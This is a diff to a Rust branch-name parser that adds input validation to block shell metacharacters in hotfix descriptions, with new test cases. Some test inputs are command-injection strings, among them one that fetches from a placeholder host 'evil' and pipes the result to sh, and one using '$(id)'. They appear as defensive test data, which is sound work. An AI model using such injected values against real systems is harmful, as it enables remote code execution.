@@ -26,6 +26,10 @@ impl Playbook {
                 after if after.contains('{') => return None,
                 after => (rest.strip_suffix(after)?, ""),
             };
+            // What is told of it has commands to copy, and a shell reads more into other signs.
+            if !about.chars().all(|sign| sign.is_ascii_alphanumeric() || matches!(sign, '.' | '_' | '-')) {
+                return None;
+            }
             let version = self.scheme.read(version).ok().filter(Version::is_final)?;
             Some(HandMade { path, is_hotfix, version, about: about.replace('-', " ") })
         })
@@ -69,6 +73,11 @@ mod tests {
             (quick, "feature/v2.3.0", "nothing"),
             (trunk, "hotfix/v1.2.1-fix-crash", "hotfix 1.2.1 fix crash"),
             (trunk, "hotfix/v1.2.1", "hotfix 1.2.1"),
+            (trunk, "hotfix/v1.2.1-fix_crash.2", "hotfix 1.2.1 fix_crash.2"),
+            (trunk, "hotfix/v1.2.1-x;curl${IFS}evil|sh", "nothing"),
+            (trunk, "hotfix/v1.2.1-$(id)", "nothing"),
+            (trunk, "hotfix/v1.2.1-fix/crash", "nothing"),
+            (trunk, "hotfix/v1.2.1-caf\u{e9}", "nothing"),
             (trunk, "release/v1.3.0", "nothing"),
         ] {
             assert_eq!(said(playbook, branch), expected, "{branch}");
